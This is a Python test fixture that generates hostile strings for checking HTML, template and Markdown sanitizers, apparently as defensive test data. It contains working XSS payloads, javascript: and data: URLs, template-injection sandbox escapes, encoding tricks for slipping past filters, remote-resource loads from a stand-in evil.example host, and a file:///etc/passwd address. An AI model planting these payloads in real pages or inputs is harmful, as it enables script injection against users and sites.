"""Texts that try to run as code, to fetch from elsewhere, or to break out of where they stand. `fired()` and `evil.example` show that one did."""

from __future__ import annotations

RUN = "fired()"
AWAY = "https://evil.example/x"

_HTML = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src=javascript:parent.{RUN}></iframe>", f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<a href=javascript:{RUN}>x</a>", f"<form action=javascript:{RUN}><button>x</button></form>", f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>", f"<marquee onstart={RUN}>x</marquee>", f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<style>@import '{AWAY}'</style>", f"<link rel=stylesheet href={AWAY}>", f"<img src={AWAY}>",
    f"<base href={AWAY}>", f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<div style=\"background:url('{AWAY}')\">x</div>", f"<script src={AWAY}></script>",
    f"<picture><source srcset={AWAY}><img></picture>", f"<svg><use href='{AWAY}#x'/></svg>", f"<svg><image href='{AWAY}'/></svg>", f"<button formaction=javascript:{RUN}>x</button>",
    f"<isindex type=image src=1 onerror={RUN}>", f"<keygen autofocus onfocus={RUN}>", f"<img src=x:x onerror={RUN} //", f"<<script>{RUN}//<</script>",
)  # fmt: skip
_BREAKING = (
    '"><{}',
    "'><{}",
    "</p></article>{}",
    "</template>{}",
    "--><{}",
    "]]>{}",
    "</textarea>{}",
    "</title>{}",
    "</blockquote></div>{}",
    "\x00{}",
    "`{}`",
)
_TEMPLATES = (
    f"${{{RUN}}}", f"{{{{{RUN}}}}}", f"{{{{constructor.constructor('{RUN}')()}}}}", f"#{{{RUN}}}", f"<%= {RUN} %>", f"{{% {RUN} %}}", f"[[{RUN}]]",
    "{{#with this}}{{lookup . 'constructor'}}{{/with}}", f"{{{{value.constructor.constructor('{RUN}')()}}}}", f"@{{{RUN}}}",
)  # fmt: skip
_MARKDOWN = (
    f"![x]({AWAY})", f"[x](javascript:{RUN})", f"[x](data:text/html,<script>{RUN}</script>)", f'![x]({AWAY} "x")', f"[x]: {AWAY}\n![x]", f"<{AWAY}>", f"![][x]\n\n[x]: {AWAY}",
    f"```html\n<script>{RUN}</script>\n```", f"| x |\n|---|\n| <img src=x onerror={RUN}> |", f"> <img src=x onerror={RUN}>", f"- [ ] <svg onload={RUN}>", f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    f"[x](vbscript:{RUN})", f"[x](JaVaScRiPt:{RUN})", f"[x](java\tscript:{RUN})", f"<details><summary>x</summary><img src=x onerror={RUN}></details>",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"\x01javascript:{RUN}", f"javascript://x%0a{RUN}",
    f"data:text/html,<script>opener.{RUN}</script>", f"data:text/html;base64,{RUN}", f"vbscript:{RUN}", "file:///etc/passwd", "blob:x", "//", "", "x",
    f'https://x.example/"onmouseover={RUN}//', f"https://x.example/'onfocus={RUN} autofocus='", f"https://x.example/<script>{RUN}</script>", "ftp://x.example",
    f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}", f"https:javascript:{RUN}",
)  # fmt: skip


def _encoded(text: str) -> tuple[str, ...]:
    """A text in the disguises that filters forget."""
    entities = "".join(f"&#{ord(c)};" for c in text)
    return (
        text,
        text.upper().replace("FIRED()", RUN),
        text.replace("<", "&lt;").replace(">", "&gt;"),
        entities,
        text.replace("<", "\uff1c").replace(">", "\uff1e"),
    )


TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(form for text in _HTML for form in _encoded(text)),
            *(wrapper.format(text) for wrapper in _BREAKING for text in _HTML[:4]),
            *_TEMPLATES, *_MARKDOWN, *ADDRESSES[:12],
        ]
    )
)  # fmt: skip
